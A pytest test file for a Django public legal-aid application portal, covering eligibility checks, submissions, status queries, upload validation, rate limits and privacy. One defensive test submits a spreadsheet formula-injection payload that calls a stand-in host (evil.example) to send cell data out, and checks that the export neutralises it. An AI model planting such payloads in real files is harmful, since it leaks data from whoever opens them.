"""The public online application (网上申请法律援助): check → apply → number + code → status.

The pages are public: no login, no office scoping, so instead of the own/parent/sibling trio
these tests check what a stranger can and cannot learn (existing records, which of number or
code was wrong), the upload rules, the abuse protection and that nothing sensitive is stored
or logged in plaintext.
"""

from __future__ import annotations

import base64
import datetime
import logging
import time
from decimal import Decimal
from io import BytesIO

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client, override_settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from stdnum.cn import ric

from sifa.core import crypto
from sifa.core.crypto import blind_index
from sifa.legalaid import eligibility
from sifa.legalaid.actions.applications import application_decide, supplement_request
from sifa.legalaid.actions.assignments import assignment_make
from sifa.legalaid.actions.portal import matter_type_for
from sifa.legalaid.constants import Area, Channel, Matter, Origin, Status
from sifa.legalaid.forms.portal import issue_form_token
from sifa.legalaid.models import Application, HardshipStandard, Upload
from sifa.legalaid.selectors.portal import application_progress, region_choices
from sifa.legalaid.tests.factories import make_centre, make_ended, make_handler, make_reviewer
from sifa.people.models import DocumentType, Person
from tests.test_no_plaintext import database_as_text

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(17)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(32) + b"\xff\xd9"
PHONE = "13912345678"


def resident_id(body17: str) -> str:
    return body17 + ric.calc_check_digit(body17 + "0")  # stdnum ignores the last character


APPLICANT_ID = resident_id("33010219800315202")


@pytest.fixture(autouse=True)
def _clear_cache():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def centre(cast):
    return make_centre(cast.county_a)


@pytest.fixture
def reviewer(centre):
    return make_reviewer(centre)


@pytest.fixture
def standard(db):
    return HardshipStandard.objects.create(
        region_code="3301",
        area=Area.URBAN,
        valid_from=datetime.date(2020, 1, 1),
        monthly_income_limit=Decimal("1500.00"),
        basis="测试省法律援助经济困难标准",
    )


def aged_stamp(seconds: float = 60) -> str:
    """A form stamp as if the page had been served `seconds` ago."""
    return issue_form_token(now=time.time() - seconds)


def pdf(name="申请书.pdf", content=PDF):
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def apply_data(cast, centre, **overrides) -> dict:
    data = {
        "form_token": aged_stamp(),
        "homepage": "",
        "name": "王小二",
        "id_number": APPLICANT_ID,
        "phone": PHONE,
        "address": "测试市甲县某路1号",
        "office": centre.pk,
        "matter": Matter.LABOUR_PAY,
        "region_code": cast.township_a1.region_code,
        "area": Area.URBAN,
        "household_size": "3",
        "household_monthly_income": "3000",
        "exemption_proof": "",
        "hardship_check": "pledge",
        "groups": ["migrant_worker"],
        "adverse_party": "某建筑劳务公司",
        "facts_text": "在工地务工，被拖欠工资三个月。",
        "truthful": "on",
    }
    data.update(overrides)
    return {key: value for key, value in data.items() if value is not None}


def submit(client, cast, centre, files=(), **overrides):
    data = apply_data(cast, centre, **overrides)
    if files:
        data["materials"] = list(files)
    return client.post(reverse("legalaid_portal:apply"), data)


def query(client, number, code):
    return client.post(
        reverse("legalaid_portal:status"),
        {"form_token": aged_stamp(), "homepage": "", "number": number, "code": code},
    )


def text(response) -> str:
    return response.content.decode()


# --- check --------------------------------------------------------------------------------


def test_check_page_lists_the_regions_without_login(client, cast):
    response = client.get(reverse("legalaid_portal:check"))

    assert response.status_code == 200
    codes = [code for code, _name in region_choices()]
    for office in (cast.county_a, cast.county_b, cast.township_a1, cast.township_b1):
        assert office.region_code in codes
        assert f'value="{office.region_code}"' in text(response)
    assert cast.village_a1.region_code not in codes  # a service station is not a region office


def test_check_shows_the_rules_answer_and_carries_it_over_to_the_application(
    client, cast, centre, standard
):
    answers = {
        "matter": Matter.LABOUR_PAY,
        "region_code": cast.township_a1.region_code,
        "area": Area.URBAN,
        "household_size": "3",
        "household_monthly_income": "3000",
        "exemption_proof": "",
        "hardship_check": "pledge",
    }
    response = client.post(reverse("legalaid_portal:check"), answers)

    expected = eligibility.assess(
        eligibility.Facts(
            matter=Matter.LABOUR_PAY,
            matter_type=matter_type_for(Matter.LABOUR_PAY),
            on=timezone.localdate(),
            region_code=cast.township_a1.region_code,
            area=Area.URBAN,
            household_size=3,
            household_monthly_income=Decimal("3000"),
            hardship_check="pledge",
        )
    )
    assert response.status_code == 200
    assert response.context["assessment"] == expected
    assert expected.reasons
    for reason in expected.reasons:
        assert reason in text(response)
    assert "?from=check" in text(response)

    carried = dict(response.context["carried"])
    prefilled = client.post(reverse("legalaid_portal:apply") + "?from=check", carried)

    assert prefilled.status_code == 200
    form = prefilled.context["form"]
    assert not form.is_bound  # carrying over submits nothing
    assert form.initial["matter"] == Matter.LABOUR_PAY
    assert form.initial["region_code"] == cast.township_a1.region_code
    assert form.initial["household_size"] == 3
    assert Application.objects.count() == 0


def test_check_with_a_no_hardship_matter_says_so(client, cast):
    response = client.post(
        reverse("legalaid_portal:check"),
        {"matter": Matter.ABUSE_VIOLENCE, "region_code": cast.county_a.region_code},
    )

    assessment = response.context["assessment"]
    assert assessment.eligible is True
    assert "第三十二条" in assessment.explanation
    assert assessment.explanation in text(response).replace("</li><li>", "")


# --- the whole flow -----------------------------------------------------------------------


def test_apply_then_status_shows_received_then_the_decision(client, cast, centre, reviewer):
    response = submit(client, cast, centre, files=[pdf(), SimpleUploadedFile("照片.png", PNG)])

    assert response.status_code == 200, response.context["form"].errors
    application = Application.objects.get()
    code = response.context["query_code"]
    assert len(code) >= 8
    assert application.number in text(response) and code in text(response)
    assert "no-store" in response["Cache-Control"]
    assert application.origin == Origin.ONLINE
    assert application.channel == Channel.ONLINE
    assert application.received_on == timezone.localdate()
    assert application.office == centre
    assert application.query_code_hash == blind_index(code, purpose="legalaid.query_code")
    assert application.eligibility_explanation  # the rules ran on the answers
    assert set(application.groups.values_list("group", flat=True)) == {"migrant_worker"}
    applicant = application.applicant
    assert applicant.office == centre
    assert applicant.id_number == APPLICANT_ID
    assert applicant.region_code == cast.township_a1.region_code
    uploads = {u.filename: u for u in Upload.objects.filter(application=application)}
    assert set(uploads) == {"申请书.pdf", "照片.png"}
    assert base64.b64decode(uploads["申请书.pdf"].content) == PDF
    assert uploads["照片.png"].content_type == "image/png"
    assert uploads["照片.png"].size == len(PNG)

    received = query(client, application.number, code)
    assert received.status_code == 200
    assert received.context["application"] == application
    steps = received.context["steps"]
    assert steps[0].key == Status.RECEIVED and steps[0].done
    assert steps[0].happened_on == application.received_on
    assert "已收到申请" in text(received)
    assert not any(step.done for step in steps[1:])

    reasons = "申请人家庭经济状况不符合经济困难标准。"
    application_decide(
        actor=reviewer,
        application=application,
        grant=False,
        decided_on=application.received_on,
        refusal_reasons=reasons,
    )
    decided = query(client, application.number, code.lower())  # the code is case-insensitive

    assert "审查决定：不予法律援助" in text(decided)
    assert reasons in text(decided)
    refused = [s for s in decided.context["steps"] if s.key == Status.REFUSED]
    assert refused and refused[0].negative
    assert refused[0].happened_on == application.received_on


def test_status_follows_supplement_grant_and_assignment(client, cast, centre, reviewer):
    response = submit(client, cast, centre, files=[pdf()])
    application = Application.objects.get()
    code = response.context["query_code"]
    today = timezone.localdate()

    supplement_request(
        actor=reviewer,
        application=application,
        requested_on=today,
        due_on=today + datetime.timedelta(days=15),
        other_items="近三个月工资流水",
    )
    asked = query(client, application.number, code)
    assert "需要补充材料" in text(asked)
    assert "近三个月工资流水" in text(asked)

    application.refresh_from_db()
    application.status = Status.RECEIVED  # materials supplied (the ORM is enough here)
    application.save(update_fields=["status"])
    application_decide(actor=reviewer, application=application, grant=True, decided_on=today)
    provider, handler = make_handler(centre, name="李律师")
    handler.person.set_phone("13800001111")
    handler.person.save()
    assignment_make(
        actor=reviewer,
        application=application,
        provider=provider,
        handler=handler,
        assigned_on=today,
    )
    assigned = query(client, application.number, code)

    body = text(assigned)
    assert "审查决定：给予法律援助" in body
    assert "已指派承办" in body
    assert provider.name in body and "李律师" in body
    assert "13800001111" not in body and "138****1111" not in body
    keys = [step.key for step in assigned.context["steps"] if step.done]
    assert keys[-2:] == [Status.GRANTED, Status.ASSIGNED]


def test_progress_of_an_ended_case_leaves_only_the_archive_ahead(centre, reviewer):
    application = make_ended(reviewer, centre)

    steps = application_progress(application)

    done = [step.key for step in steps if step.done]
    assert done == [
        Status.RECEIVED,
        Status.GRANTED,
        Status.ASSIGNED,
        Status.IN_PROGRESS,
        Status.ENDED,
    ]
    assert [step.key for step in steps if not step.done] == [Status.ARCHIVED]
    assert steps[-2].happened_on == application.ended_on


def test_a_person_registered_by_another_office_is_neither_used_nor_told(client, cast, centre):
    """Issue 14, item 8: the centre registers the applicant itself; the other office's entry is
    not attached, not touched, and the centre is not told it exists."""
    elsewhere = Person(
        office=cast.township_b1, name="登记在册的人", doc_type=DocumentType.RESIDENT_ID
    )
    elsewhere.set_id_number(APPLICANT_ID)
    elsewhere.set_phone("13700007777")
    elsewhere.save()

    response = submit(client, cast, centre, name="另一个名字", files=[pdf()])

    assert response.status_code == 200
    application = Application.objects.get()
    assert application.applicant != elsewhere
    assert (application.applicant.office, application.applicant.name) == (centre, "另一个名字")
    elsewhere.refresh_from_db()
    assert elsewhere.name == "登记在册的人" and elsewhere.phone == "13700007777"
    assert "登记在册的人" not in application.facts and "不一致" not in application.facts


def test_an_existing_person_is_reused_and_never_shown(client, cast, centre):
    existing = Person(office=centre, name="登记在册的人", doc_type=DocumentType.RESIDENT_ID)
    existing.set_id_number(APPLICANT_ID)
    existing.set_phone("13700007777")
    existing.save()

    # The same number, with another name and phone.
    response = submit(client, cast, centre, name="另一个名字", files=[pdf()])

    assert response.status_code == 200
    application = Application.objects.get()
    assert application.applicant == existing
    assert Person.objects.filter(doc_type=DocumentType.RESIDENT_ID).count() == 1
    existing.refresh_from_db()
    assert existing.name == "登记在册的人" and existing.phone == "13700007777"
    body = text(response)
    for secret in ("登记在册的人", "13700007777", "137****7777"):
        assert secret not in body
    assert "另一个名字" in application.facts  # the centre is told the names differ


# --- uploads ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("upload", "message"),
    [
        (SimpleUploadedFile("说明.txt", b"plain text"), "类型不受支持"),
        (SimpleUploadedFile("图.gif", b"GIF89a" + bytes(20)), "类型不受支持"),
        (SimpleUploadedFile("假的.pdf", b"MZ\x90\x00 this is an exe"), "内容与扩展名不符"),
        (SimpleUploadedFile("图.pdf", PNG), "内容与扩展名不符"),
        (SimpleUploadedFile("照片.jpg", PDF), "内容与扩展名不符"),
    ],
)
def test_uploads_of_the_wrong_type_or_with_fake_content_are_refused(
    client, cast, centre, upload, message
):
    response = submit(client, cast, centre, files=[pdf(), upload])

    assert response.status_code == 200
    assert message in text(response)
    assert upload.name in text(response)
    assert Application.objects.count() == 0
    assert Person.objects.count() == 0


def test_an_empty_file_is_refused(client, cast, centre):
    response = submit(client, cast, centre, files=[SimpleUploadedFile("空.pdf", b"")])

    assert "空文件" in text(response)
    assert Application.objects.count() == 0


def test_jpeg_is_accepted(client, cast, centre):
    response = submit(client, cast, centre, files=[SimpleUploadedFile("证明.JPEG", JPEG)])

    assert response.status_code == 200
    assert Upload.objects.get().content_type == "image/jpeg"


def test_a_file_over_the_size_limit_is_refused(client, cast, centre):
    with override_settings(SIFA_PORTAL_MAX_UPLOAD_BYTES=len(PDF) + 10):
        fits = submit(client, cast, centre, files=[pdf(content=PDF + bytes(10))])
        too_big = submit(
            client, cast, centre, files=[pdf(content=PDF + bytes(11))], form_token=aged_stamp()
        )

    assert "query_code" in fits.context
    assert "超过" in text(too_big) and "MB" in text(too_big)
    assert Application.objects.count() == 1


def test_at_most_the_configured_number_of_files(client, cast, centre):
    five = [pdf(f"材料{n}.pdf") for n in range(5)]
    six = [pdf(f"材料{n}.pdf") for n in range(6)]

    refused = submit(client, cast, centre, files=six)
    assert "最多上传 5 个文件" in text(refused)
    assert Application.objects.count() == 0

    accepted = submit(client, cast, centre, files=five)
    assert "query_code" in accepted.context
    assert Upload.objects.count() == 5

    with override_settings(SIFA_PORTAL_MAX_UPLOADS=2):
        limited = submit(client, cast, centre, files=[pdf(f"另{n}.pdf") for n in range(3)])
    assert "最多上传 2 个文件" in text(limited)
    assert Application.objects.count() == 1


def test_an_oversized_request_body_is_refused_before_it_is_read(client, cast, centre):
    with override_settings(SIFA_PORTAL_MAX_UPLOADS=1, SIFA_PORTAL_MAX_UPLOAD_BYTES=1):
        response = submit(client, cast, centre, files=[pdf(content=PDF + bytes(2 * 1024 * 1024))])

    assert response.status_code == 413
    assert "上传的文件过大" in text(response)
    assert Application.objects.count() == 0


def test_uploads_are_not_stored_in_plaintext(client, cast, centre):
    marker = b"%PDF-1.7 PLAINTEXT-CANARY-4711 %%EOF"
    response = submit(client, cast, centre, files=[pdf(content=marker)])
    code = response.context["query_code"]

    with connection.cursor() as cursor:
        cursor.execute("SELECT content FROM legalaid_upload")
        (raw,) = cursor.fetchone()
    assert raw.startswith(f"v2:{crypto.current_key().key_id}:")  # sealed, with its key's id
    assert "PLAINTEXT-CANARY" not in raw
    assert base64.b64encode(marker).decode() not in raw

    dump = database_as_text()
    assert "PLAINTEXT-CANARY" not in dump
    assert base64.b64encode(marker).decode() not in dump
    for secret in (APPLICANT_ID, PHONE, code):
        assert secret not in dump


# --- validation ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("id_number", "message"),
    [
        (APPLICANT_ID[:-1] + ("0" if APPLICANT_ID[-1] != "0" else "1"), "校验位错误"),
        ("3301021980031520", "位数不对"),
        ("", "该字段是必填项"),
    ],
)
def test_id_number_errors_are_explained_in_chinese(client, cast, centre, id_number, message):
    response = submit(client, cast, centre, id_number=id_number)

    assert response.status_code == 200
    assert message in text(response)
    assert "id_number" in response.context["form"].errors
    assert Application.objects.count() == 0


def test_phone_and_required_fields_are_checked(client, cast, centre):
    response = submit(client, cast, centre, phone="12345", truthful=None)

    errors = response.context["form"].errors
    assert "联系电话格式错误" in errors["phone"][0]
    assert "请确认所填信息真实后再提交。" in errors["truthful"]
    assert response.context["form"]["name"].value() == "王小二"  # what was typed is kept


# --- abuse protection ---------------------------------------------------------------------


def test_the_honeypot_refuses_the_submission(client, cast, centre):
    response = submit(client, cast, centre, homepage="http://spam.example")

    assert response.status_code == 200
    assert "无法受理此次提交" in text(response)
    assert Application.objects.count() == 0


def test_a_too_fast_submission_is_refused_and_can_be_sent_again(client, cast, centre):
    response = submit(client, cast, centre, form_token=issue_form_token())

    assert "提交过快" in text(response)
    assert Application.objects.count() == 0
    form = response.context["form"]
    assert form["name"].value() == "王小二"
    assert form.data["form_token"] != response.wsgi_request.POST["form_token"]  # a new stamp

    with override_settings(SIFA_PORTAL_MIN_FILL_SECONDS=0):
        again = submit(client, cast, centre, form_token=form.data["form_token"])
    assert "query_code" in again.context


def test_a_forged_or_missing_stamp_is_refused(client, cast, centre):
    forged = submit(client, cast, centre, form_token="1700000000.0")
    missing = submit(client, cast, centre, form_token=None)

    for response in (forged, missing):
        assert "页面已过期或无效" in text(response)
    assert Application.objects.count() == 0


def test_a_form_is_accepted_once(client, cast, centre):
    stamp = aged_stamp()
    first = submit(client, cast, centre, form_token=stamp)
    second = submit(client, cast, centre, form_token=stamp)

    assert "query_code" in first.context
    assert "请勿重复提交" in text(second)
    assert first.context["query_code"] not in text(second)
    assert Application.objects.count() == 1


def test_a_form_is_accepted_once_by_two_server_processes(client, cast, centre):
    """Each server process has its own memory (no shared cache is configured): the second
    process must still refuse a stamp the first one accepted, so the claim is in the database."""
    stamp = aged_stamp()
    first = submit(client, cast, centre, form_token=stamp)
    cache.clear()  # the second process: nothing of the first one's memory
    second = submit(client, cast, centre, form_token=stamp)

    assert "query_code" in first.context
    assert "请勿重复提交" in text(second)
    assert Application.objects.count() == 1


def test_csrf_is_enforced(cast, centre):
    strict = Client(enforce_csrf_checks=True)

    response = strict.post(reverse("legalaid_portal:apply"), apply_data(cast, centre))

    assert response.status_code == 403
    assert Application.objects.count() == 0


@override_settings(SIFA_PORTAL_APPLY_RATE=(2, 3600))
def test_submissions_are_rate_limited_per_client(client, cast, centre):
    for _n in range(2):
        assert submit(client, cast, centre, name="").status_code == 200
    carried = client.post(reverse("legalaid_portal:apply") + "?from=check", {"matter": "other"})
    assert carried.status_code == 200  # bringing the check's answers over is not a submission

    limited = submit(client, cast, centre)

    assert limited.status_code == 429
    assert "操作过于频繁" in text(limited) and "分钟后再试" in text(limited)
    assert limited["Retry-After"] == "3600"
    assert Application.objects.count() == 0


def test_the_rate_limit_is_per_address(cast, centre):
    with override_settings(SIFA_PORTAL_APPLY_RATE=(1, 3600)):
        one = Client(REMOTE_ADDR="10.0.0.1")
        two = Client(REMOTE_ADDR="10.0.0.2")
        assert one.post(reverse("legalaid_portal:apply"), {}).status_code == 200
        assert one.post(reverse("legalaid_portal:apply"), {}).status_code == 429
        assert two.post(reverse("legalaid_portal:apply"), {}).status_code == 200


@override_settings(SIFA_PORTAL_STATUS_RATE=(3, 600))
def test_status_queries_are_rate_limited(client, cast, centre):
    response = submit(client, cast, centre)
    number, code = Application.objects.get().number, response.context["query_code"]

    for _n in range(3):
        assert query(client, number, "WRONGCODE").status_code == 200
    limited = query(client, number, code)  # even the right code, once over the limit

    assert limited.status_code == 429
    assert "操作过于频繁" in text(limited)
    assert "application" not in (limited.context or {})


def test_a_wrong_number_or_code_gets_one_generic_message(client, cast, centre):
    response = submit(client, cast, centre)
    application = Application.objects.get()
    code = response.context["query_code"]

    wrong_code = query(client, application.number, "ABCDEFGH")
    wrong_number = query(client, application.number + "9", code)
    staff_application_without_code = query(client, "", code)

    message = "申请编号或查询码不正确，请核对后重新输入。"
    assert message in text(wrong_code) and message in text(wrong_number)
    for page in (wrong_code, wrong_number, staff_application_without_code):
        assert page.context["application"] is None
        assert "已收到申请" not in text(page)
    assert code not in text(wrong_number)  # the typed code is not echoed back


def test_nothing_personal_is_logged(client, cast, centre, caplog):
    caplog.set_level(logging.DEBUG)
    response = submit(client, cast, centre, files=[pdf()])
    code = response.context["query_code"]
    query(client, Application.objects.get().number, code)

    logged = "\n".join(record.getMessage() for record in caplog.records)
    for secret in (APPLICANT_ID, PHONE, "王小二", code, "127.0.0.1"):
        assert secret not in logged


def test_the_portal_has_no_staff_menu_even_for_staff(login, cast):
    staff = login(cast.county_supervisor)

    response = staff.get(reverse("legalaid_portal:apply"))

    assert response.status_code == 200
    assert "sifa-shell" not in text(response)
    assert "sifa-sidebar" not in text(response)
    assert 'name="homepage"' in text(response)  # the honeypot is there, hidden


def test_a_portal_applicant_named_like_a_formula_is_exported_as_text(
    client, cast, centre, reviewer, login
):
    name = '=HYPERLINK("http://evil.example/?"&A1,"王小二")'
    response = submit(client, cast, centre, name=name, adverse_party="@SUM(1+1)")
    assert response.status_code == 200  # the receipt page with the query code
    assert Application.objects.filter(applicant__name=name).exists()

    export = login(reviewer).get(reverse("legalaid:application_export"))

    sheet = load_workbook(BytesIO(export.content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    (row,) = [
        r for r in sheet.iter_rows(min_row=2) if r[header.index("申请人/受援人")].value == name
    ]
    for cell in (row[header.index("申请人/受援人")], row[header.index("对方当事人")]):
        assert cell.data_type == "s" and cell.quotePrefix
    assert row[header.index("对方当事人")].value == "@SUM(1+1)"


def test_the_check_names_the_place_of_the_standard_not_its_code(client, cast, db):
    """Issue 15 item 12: the portal said “未超过33城镇经济困难标准”; it names the place."""
    HardshipStandard.objects.create(
        region_code="33",
        area=Area.URBAN,
        valid_from=datetime.date(2020, 1, 1),
        monthly_income_limit=Decimal("1500.00"),
        basis="浙江省法律援助经济困难标准",
    )
    answers = {
        "matter": Matter.LABOUR_PAY,
        "region_code": cast.township_a1.region_code,
        "area": Area.URBAN,
        "household_size": "3",
        "household_monthly_income": "3000",
        "exemption_proof": "",
        "hardship_check": "pledge",
    }

    page = text(client.post(reverse("legalaid_portal:check"), answers))

    assert "未超过浙江省城镇经济困难标准1500.00元" in page
    assert "未超过33" not in page


def test_a_missing_standard_names_the_applicants_place(client, cast, db):
    answers = {
        "matter": Matter.LABOUR_PAY,
        "region_code": cast.township_a1.region_code,
        "area": Area.URBAN,
        "household_size": "3",
        "household_monthly_income": "3000",
        "exemption_proof": "",
        "hardship_check": "pledge",
    }

    page = text(client.post(reverse("legalaid_portal:check"), answers))

    assert "尚无适用于行政区划甲一镇（城镇）的经济困难标准" in page
